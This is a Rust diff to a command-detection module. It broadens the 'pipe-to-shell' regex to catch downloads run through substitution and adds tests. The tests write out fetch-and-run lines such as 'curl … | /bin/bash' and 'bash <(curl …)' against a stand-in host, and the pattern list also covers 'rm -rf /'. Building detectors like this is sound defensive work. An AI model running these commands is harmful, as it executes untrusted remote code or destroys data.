@@ -16,10 +16,12 @@ pub const BUILTIN_PATTERNS: &[(&str, &str)] = &[
         "base64-decode",
         r"\bbase64\s+(?:-[a-z]*d[a-z]*\b|--decode\b)",
     ),
-    // `curl … | sh`, `wget -qO- … | sudo bash`, `curl … | python3`.
+    // `curl … | sh`, `wget -qO- … | sudo bash`, `curl … | /usr/bin/env python3`, and the
+    // same download run through a substitution, as the best-known installers write it:
+    // `/bin/bash -c "$(curl …)"`, `sh -c "$(wget -qO- …)"`, `bash <(curl …)`.
     (
         "pipe-to-shell",
-        r"\b(?:curl|wget)\b[^\n|]*\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:(?:ba|z|da|k|fi)?sh|python[0-9.]*|perl|ruby|node)\b",
+        r#"\b(?:curl|wget)\b[^\n|]*\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:\S*/)?(?:env\s+)?(?:(?:ba|z|da|k|fi)?sh|python[0-9.]*|perl|ruby|node)\b|\b(?:(?:ba|z|da|k|fi)?sh|python[0-9.]*|perl|ruby|node)(?:\s+-\S+)*\s+["']?(?:\$\(|<\(|`)\s*(?:curl|wget)\b"#,
     ),
     // `rm -rf /`, `rm -rf ~`, `rm -rf "$HOME"`, `rm -rf /*`, but not `rm -rf /tmp/build`.
     (
@@ -180,6 +182,16 @@ mod tests {
             hits("curl https://x.example/get.py | python3 -"),
             ["pipe-to-shell"]
         );
+        for line in [
+            "curl -fsSL https://x.example/i.sh | /bin/bash",
+            "curl -fsSL https://x.example/i.sh | /usr/bin/env bash -s",
+            r#"/bin/bash -c "$(curl -fsSL https://x.example/install.sh)""#,
+            r#"sh -c "$(wget -qO- https://x.example/i.sh)""#,
+            "bash <(curl -s https://x.example/i.sh)",
+            "sh -c \"`curl -s https://x.example/i.sh`\"",
+        ] {
+            assert_eq!(hits(line), ["pipe-to-shell"], "{line}");
+        }
         assert_eq!(hits("echo aGk= | base64 -d"), ["base64-decode"]);
         assert_eq!(hits("base64 --decode payload"), ["base64-decode"]);
         assert_eq!(hits("const f = eval (input)"), ["eval-call"]);
@@ -202,6 +214,9 @@ mod tests {
             "rm -rf ./out",
             "curl -fsSL https://example.com/data.json -o data.json",
             "curl -s https://example.com | jq .",
+            "curl -s https://example.com | tee /tmp/sh",
+            "ssh host \"$(curl -s https://example.com/ip)\"",
+            "bash scripts/collect.sh \"$(git describe)\"",
             "base64 -w0 image.png",
             "evaluate(x)",
             "Use the shell to list files.",
